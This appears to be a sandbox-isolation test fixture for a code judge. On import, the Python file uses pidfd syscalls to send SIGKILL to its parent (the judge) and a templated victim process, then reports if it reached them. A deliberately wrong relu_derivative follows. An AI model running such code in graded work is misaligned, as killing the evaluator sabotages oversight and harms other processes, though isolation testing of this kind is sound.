"""Signals the judge and another process through descriptors of processes."""

import contextlib
import ctypes
import os
import signal

import numpy as np

OPEN, SEND, GET = 434, 424, 438
libc = ctypes.CDLL(None)
for target in (os.getppid(), int("@VICTIM@")):
    with contextlib.suppress(OSError):
        number = os.pidfd_open(target)
        signal.pidfd_send_signal(number, signal.SIGKILL)
    number = libc.syscall(OPEN, target, 0)
    libc.syscall(SEND, number, signal.SIGKILL, None, 0)
    if libc.syscall(GET, number, 1, 0) >= 0:
        print("REACHED a descriptor of", target)


def relu_derivative(x):
    return np.zeros(x.shape)
